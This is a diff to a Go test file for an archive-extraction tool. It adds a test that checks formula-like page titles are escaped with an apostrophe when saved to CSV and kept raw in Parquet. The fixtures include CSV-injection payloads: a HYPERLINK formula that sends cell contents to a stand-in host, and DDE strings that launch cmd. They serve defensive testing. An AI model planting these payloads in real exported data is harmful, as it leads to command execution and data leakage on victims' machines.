@@ -203,3 +203,84 @@ func TestDocuments(t *testing.T) {
 		}
 	}
 }
+
+// formulas are titles as pages have them, and what the cells of CSV hold of them.
+var formulas = [][2]string{
+	{`=HYPERLINK("http://x/?"&A1,"more")`, `'=HYPERLINK("http://x/?"&A1,"more")`},
+	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+	{"@SUM(1+1)", "'@SUM(1+1)"},
+	{"＝1+1", "'＝1+1"},
+	{"-5.25", "-5.25"}, {"+49 30 1234", "'+49 30 1234"}, {"-", "-"}, {"a=b", "a=b"}, {"'quoted'", "'quoted'"}, {"1+1", "1+1"},
+}
+
+// TestFormulasAreQuoted has titles that spreadsheets would compute: with an apostrophe
+// in front in CSV, unless it is to be raw, as read by Python's csv and by DuckDB; in
+// Parquet as they are. Numbers stay numbers.
+func TestFormulasAreQuoted(t *testing.T) {
+	var a archive
+	for i, f := range formulas {
+		a.add(t, fmt.Sprintf("http://example.com/%d", i), "text/html", "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<title>"+f[0]+"</title>")
+	}
+	columns := []string{"title = payload.string.html.title", "tab = '\t=1'", "below = 0 - payload.length", "cr = '\\r+1'"}
+	for _, test := range []struct {
+		save string
+		raw  bool
+	}{{"csv", false}, {"csv", true}, {"parquet", false}} {
+		r := a.run(t, MapperOptions{Options: Options{Columns: columns}, Save: test.save, RawCSV: test.raw, Workers: 2})
+		if r.err != nil || r.rejects != "" {
+			t.Fatalf("%v, %s", r.err, r.rejects)
+		}
+		asWritten := test.raw || test.save == "parquet"
+		check := func(how string, rows []map[string]any) {
+			if len(rows) != len(formulas) {
+				t.Fatalf("%s: %d rows", how, len(rows))
+			}
+			for i, row := range rows {
+				want := map[string]string{"title": formulas[i][1], "tab": "'\t=1", "cr": "'\r+1"}
+				if asWritten {
+					want = map[string]string{"title": formulas[i][0], "tab": "\t=1", "cr": "\r+1"}
+				}
+				for name, value := range want {
+					if got := fmt.Sprint(row[name]); got != value {
+						t.Errorf("%s %s, raw %v: %s: %q, want %q", how, test.save, test.raw, name, got, value)
+					}
+				}
+				if below := fmt.Sprint(row["below"]); !strings.HasPrefix(below, "-") {
+					t.Errorf("%s: below: %q", how, below)
+				}
+			}
+		}
+		if test.save == "csv" {
+			check("Go", rowsOfCSV(t, r.dir))
+		}
+		if python := os.Getenv("ARCHIVESTREAM_PYTHON"); python != "" {
+			out, err := exec.Command(python, "testdata/read_saved.py", r.dir).Output()
+			if err != nil {
+				t.Fatalf("%v: %s", err, err.(*exec.ExitError).Stderr)
+			}
+			for line := range strings.Lines(string(out)) {
+				how, list, _ := strings.Cut(line, "\t")
+				var rows []map[string]any
+				if err := json.Unmarshal([]byte(list), &rows); err != nil {
+					t.Fatal(err)
+				}
+				check(how, rows)
+			}
+		}
+	}
+}
+
+// rowsOfCSV reads the only part of a folder.
+func rowsOfCSV(t *testing.T, dir string) (rows []map[string]any) {
+	t.Helper()
+	all := readCSV(t, dir)
+	for _, cells := range all[1:] {
+		row := map[string]any{}
+		for i, name := range all[0] {
+			row[name] = cells[i]
+		}
+		rows = append(rows, row)
+	}
+	return rows
+}
